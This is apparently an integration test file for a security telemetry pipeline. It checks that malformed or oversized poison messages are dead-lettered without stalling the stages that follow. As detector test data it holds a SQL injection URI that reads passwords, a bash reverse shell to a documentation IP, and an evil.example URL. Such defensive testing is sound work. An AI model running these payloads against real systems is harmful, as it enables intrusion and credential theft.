"""No single message wedges a stage (real broker, worker, NATS and PostgreSQL): each poison message below is
followed by a canary that must be judged and stored, or commanded, right after it."""

from __future__ import annotations

import base64
import time
import uuid
from collections.abc import Callable
from typing import Any

import orjson

from agents.verdict import verdict_id_for
from streams.adapters import commandbus, kafka
from tests.conftest import make_event
from tests.integration.conftest import LiveStack, on_postgres

ATTACK_URI = "/s?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"
REVERSE_SHELL = "running bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 for the nightly report"
WITHIN_S = 60.0  # a timeout, not a measure: the wedges held their stage for good (or for minutes)


def produce(live: LiveStack, topic: str, *docs: Any) -> None:
    producer = kafka.producer(live.urls.kafka)
    for doc in docs:
        value = doc if isinstance(doc, bytes) else orjson.dumps(doc)
        producer.produce(topic, key=b"poison", value=value)
    producer.flush(10)


def wait_for(what: str, found: Callable[[], Any], timeout_s: float = WITHIN_S) -> Any:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        result = found()
        if result:
            return result
        time.sleep(0.3)
    raise AssertionError(f"{what}: not within {timeout_s:.0f} s")


def stored(live: LiveStack, event_id: str) -> dict[str, Any] | None:
    row = on_postgres(live.urls.postgres, lambda conn: conn.fetchrow(
        "SELECT entity, doc::text AS doc FROM verdicts WHERE verdict_id = $1", verdict_id_for(event_id)))
    return None if row is None else {"entity": row["entity"], "doc": orjson.loads(row["doc"])}


def dead_letters(live: LiveStack, wanted: Callable[[dict[str, Any]], bool]) -> list[dict[str, Any]]:
    records = [orjson.loads(m.value()) for m in kafka.read_topic(live.urls.kafka, "telemetry.dlq", idle_s=0.5)]
    return [r for r in records if wanted(r)]


def metric(live: LiveStack, line_start: str) -> float:
    import urllib.request

    with urllib.request.urlopen(live.web + "/metrics", timeout=5) as response:
        text = response.read().decode()
    return sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines() if line.startswith(line_start))


def command_for(live: LiveStack, target: str) -> dict[str, Any] | None:
    """The last command published for ``target``, read from JetStream at its encoded subject."""
    async def read() -> dict[str, Any] | None:
        import nats.js.errors

        nc = await commandbus.connect(live.urls.nats, live.urls.nats_token, "test-poison")
        try:
            subject = f"{commandbus.COMMAND_SUBJECT}.{commandbus.subject_token(target)}"
            message = await nc.jetstream().get_last_msg(commandbus.COMMAND_STREAM, subject)
            return orjson.loads(message.data or b"{}")  # type: ignore[no-any-return]
        except nats.js.errors.NotFoundError:
            return None
        finally:
            await nc.close()

    return live.run(read())  # type: ignore[no-any-return]


def test_an_entity_with_nul_is_dead_lettered_at_ingest_and_the_next_event_is_stored(live: LiveStack) -> None:
    tag = uuid.uuid4().hex[:8]
    poison = make_event(entity=f"wedge\u0000{tag}", ts=time.time(), uri=ATTACK_URI)
    canary = make_event(entity=f"canary-{tag}", ts=time.time(), uri=ATTACK_URI)
    produce(live, "telemetry", poison, canary)

    assert wait_for("canary stored", lambda: stored(live, canary["event_id"]))["entity"] == f"canary-{tag}"
    [record] = wait_for("poison dead-lettered", lambda: dead_letters(
        live, lambda r: r["event_id"] == poison["event_id"]))
    assert record["reason"] == "invalid_identifier" and "U+0000" in record["error"]
    assert stored(live, poison["event_id"]) is None


def test_a_verdict_postgresql_refuses_is_dead_lettered_and_the_next_one_is_stored(live: LiveStack) -> None:
    tag = uuid.uuid4().hex[:8]
    # the alerts topic takes any producer's verdict: one with a NUL in its entity column is refused for good
    poison = {"verdict_id": f"v-poison-{tag}", "scope": "event", "event_ids": [f"p-{tag}"], "entity": f"x\u0000{tag}",
              "kind": "http", "category": "THREAT", "final_verdict": "MALICIOUS", "severity": "HIGH",
              "confidence": 0.9, "score": 0.9, "title": "poison", "evidence": [], "recommended_action": "none",
              "status": "ACTIVE", "event_ts": time.time(), "ts": time.time()}
    before = metric(live, 'vertice_dead_lettered_total{reason="sink_rejected",stage="verdict_sink"}')
    raw = orjson.dumps(poison)
    produce(live, "verdicts.alerts", raw)  # the topic the sink reads
    # and a payload that quotes a NUL: its verdict's evidence holds one, which jsonb alone cannot store
    quoting = make_event(entity=f"quoting-{tag}", ts=time.time(), uri=ATTACK_URI,
                         body="see http://evil.example/\u0000x for the rest")
    canary = make_event(entity=f"canary-{tag}", ts=time.time(), uri=ATTACK_URI)
    produce(live, "telemetry", quoting, canary)

    assert wait_for("canary stored", lambda: stored(live, canary["event_id"]))
    kept = wait_for("verdict quoting a NUL stored", lambda: stored(live, quoting["event_id"]))
    assert "http://evil.example/\ufffdx" in kept["doc"]["iocs"]["url"]
    [record] = wait_for("poison verdict dead-lettered", lambda: dead_letters(
        live, lambda r: r["reason"] == "sink_rejected" and r["error"] and f"v-poison-{tag}".encode()
        in base64.b64decode(r["original_b64"])))
    assert base64.b64decode(record["original_b64"]) == raw and record["topic"] == "verdicts.alerts"
    assert record["offset"] >= 0 and "0x00" in record["error"]
    assert metric(live, 'vertice_dead_lettered_total{reason="sink_rejected",stage="verdict_sink"}') >= before + 1
    assert on_postgres(live.urls.postgres, lambda conn: conn.fetchval(
        "SELECT count(*) FROM verdicts WHERE verdict_id = $1", f"v-poison-{tag}")) == 0


def test_agent_ids_that_are_no_subject_token_still_get_their_commands(live: LiveStack) -> None:
    tag = uuid.uuid4().hex[:8]
    odd = [f"two words {tag}", f"*{tag}", f"a.>{tag}", f">{tag}.*"]
    messages = [make_event("agent_message", entity=f"odd-{i}-{tag}", ts=time.time(), source_agent_id=agent,
                           content=REVERSE_SHELL) for i, agent in enumerate(odd)]
    # a 10,000-character target: a block_ip command NATS could never route; it is dead-lettered, not retried
    huge = make_event(entity=f"huge-{tag}", ts=time.time(), uri=ATTACK_URI, src_ip="9" * 10_000)
    canary = make_event("agent_message", entity=f"canary-{tag}", ts=time.time(), source_agent_id=f"canary-{tag}",
                        content=REVERSE_SHELL)
    before = metric(live, 'vertice_dead_lettered_total{reason="publish_rejected",stage="command_publish"}')
    produce(live, "telemetry", *messages, huge)
    produce(live, "telemetry", canary)

    assert wait_for("canary command", lambda: command_for(live, f"canary-{tag}"))["targets"] == [f"canary-{tag}"]
    for agent in odd:
        command = wait_for(f"command for {agent!r}", lambda a=agent: command_for(live, a))  # type: ignore[misc]
        assert command["targets"] == [agent]  # the reflex's redirect_honeypot, or the cortex's command after it
    [record] = wait_for("oversized target dead-lettered", lambda: dead_letters(
        live, lambda r: r["reason"] == "publish_rejected" and huge["event_id"].encode() in base64.b64decode(
            r["original_b64"])))
    assert record["topic"] == commandbus.COMMAND_SUBJECT and "InvalidSubject" in record["error"]
    assert metric(live, 'vertice_dead_lettered_total{reason="publish_rejected",stage="command_publish"}') >= before + 1


def test_an_agent_id_of_ten_thousand_characters_never_reaches_nats(live: LiveStack) -> None:
    tag = uuid.uuid4().hex[:8]
    poison = make_event("agent_message", entity=f"long-{tag}", ts=time.time(), source_agent_id="a" * 10_000,
                        content=REVERSE_SHELL)
    canary = make_event("agent_message", entity=f"canary2-{tag}", ts=time.time(), source_agent_id=f"canary2-{tag}",
                        content=REVERSE_SHELL)
    produce(live, "telemetry", poison, canary)
    assert wait_for("canary command", lambda: command_for(live, f"canary2-{tag}"))
    [record] = wait_for("poison dead-lettered", lambda: dead_letters(
        live, lambda r: r["event_id"] == poison["event_id"]))
    assert record["reason"] == "invalid_identifier" and "source_agent_id" in record["error"]


def test_ioc_extraction_of_dotted_labels_stays_linear_and_wedges_nothing(live: LiveStack) -> None:
    def post_time(text: str) -> float:
        started = time.perf_counter()
        status, body = live.http("/extract_iocs", "POST", {"text": text}, live.read_key)
        assert status == 200 and body == {"iocs": {}}
        return time.perf_counter() - started

    small = min(post_time("a." * 500) for _ in range(3))  # 1 KB
    large = min(post_time("a." * 8000) for _ in range(3))  # 16 KB: 9 s of frozen loop with the old pattern
    assert large / small < 40, (small, large)  # linear: ~1-16x (the request dominates); quadratic: ~256x

    tag = uuid.uuid4().hex[:8]
    # a malicious request whose body is 64 KB of dotted labels: its verdict's IOC extraction used to take minutes
    heavy = make_event(entity=f"heavy-{tag}", ts=time.time(), uri=ATTACK_URI, body="a." * 32_000)
    canary = make_event(entity=f"canary-{tag}", ts=time.time(), uri=ATTACK_URI)
    produce(live, "telemetry", heavy, canary)
    assert wait_for("canary stored", lambda: stored(live, canary["event_id"]), timeout_s=30.0)
    assert wait_for("heavy stored", lambda: stored(live, heavy["event_id"]), timeout_s=30.0)


def test_junk_on_the_internal_topics_is_dead_lettered_and_the_next_command_goes_out(live: LiveStack) -> None:
    tag = uuid.uuid4().hex[:8]
    # the broker takes any producer's message: these crashed the cortex and cytokine agents, and whatever was
    # batched with them was never handled
    junk = {"escalations": [f"junk-{tag}".encode(), orjson.dumps({"incident_id": f"i-{tag}", "features": "none"})],
            "cytokines": [f"junk-{tag}".encode(), orjson.dumps({
                "cytokine_id": f"c-{tag}", "type": "TNF", "emitter": "immune", "priority": 9, "payload": {
                    "signature": f"sig-{tag}"}, "target_area": "dendritic", "ttl_s": 60.0, "ts": time.time()})]}
    for topic, values in junk.items():
        produce(live, topic, *values)
    canary = make_event("agent_message", entity=f"canary3-{tag}", ts=time.time(), source_agent_id=f"canary3-{tag}",
                        content=REVERSE_SHELL)
    produce(live, "telemetry", canary)

    assert wait_for("canary command", lambda: command_for(live, f"canary3-{tag}"))
    for topic, values in junk.items():
        for value in values:
            [record] = wait_for(f"junk on {topic} dead-lettered", lambda t=topic, v=value: dead_letters(  # type: ignore[misc]
                live, lambda r: r["topic"] == t and base64.b64decode(r["original_b64"]) == v))
            assert record["reason"] in ("malformed_json", "schema_violation") and record["offset"] >= 0
    log = (live.data_dir / "logs" / "worker.log").read_text(errors="replace")
    assert "Crashed reason" not in log


def test_junk_on_the_scored_topic_is_dead_lettered_and_the_immune_agent_goes_on(live: LiveStack) -> None:
    tag = uuid.uuid4().hex[:8]
    item = {"event": make_event(entity=f"scored-{tag}", ts=time.time(), uri=ATTACK_URI),
            "reflex": {"decision": "BLOCK", "threat": 0.9, "anomaly": 0.0, "matches": [{"rule_id": 1001}]},
            "neutrophil": {"score": 0.9, "response": "block_network_1h"}}  # a MALICIOUS verdict: one that is stored
    bad_item = {**item, "reflex": "none"}
    # the broker takes any producer's message: each of these crashed the immune agent, and the rest of its batch
    # (other entities' scored items) was never judged
    junk = [f"junk-{tag}".encode(), orjson.dumps({"tag": tag}), orjson.dumps([item, bad_item])]
    produce(live, "scored", *junk)
    canary = make_event(entity=f"canary4-{tag}", ts=time.time(), uri=ATTACK_URI)
    produce(live, "telemetry", canary)

    assert wait_for("canary stored", lambda: stored(live, canary["event_id"]))
    assert wait_for("the good item beside the junk one judged", lambda: stored(live, item["event"]["event_id"]))
    for value in junk[:2]:
        [record] = wait_for("junk message dead-lettered", lambda v=value: dead_letters(  # type: ignore[misc]
            live, lambda r: r["topic"] == "scored" and base64.b64decode(r["original_b64"]) == v))
        assert record["reason"] in ("malformed_json", "schema_violation") and record["index"] is None
    [record] = wait_for("junk item dead-lettered", lambda: dead_letters(
        live, lambda r: r["topic"] == "scored" and r["index"] == 1 and tag.encode() in base64.b64decode(
            r["original_b64"])))
    assert orjson.loads(base64.b64decode(record["original_b64"])) == bad_item
    assert record["reason"] == "schema_violation" and record["index"] == 1 and "reflex" in record["error"]
    assert metric(live, 'vertice_dead_lettered_total{reason="schema_violation",stage="immune"}') >= 2
    log = (live.data_dir / "logs" / "worker.log").read_text(errors="replace")
    assert "Crashed reason" not in log
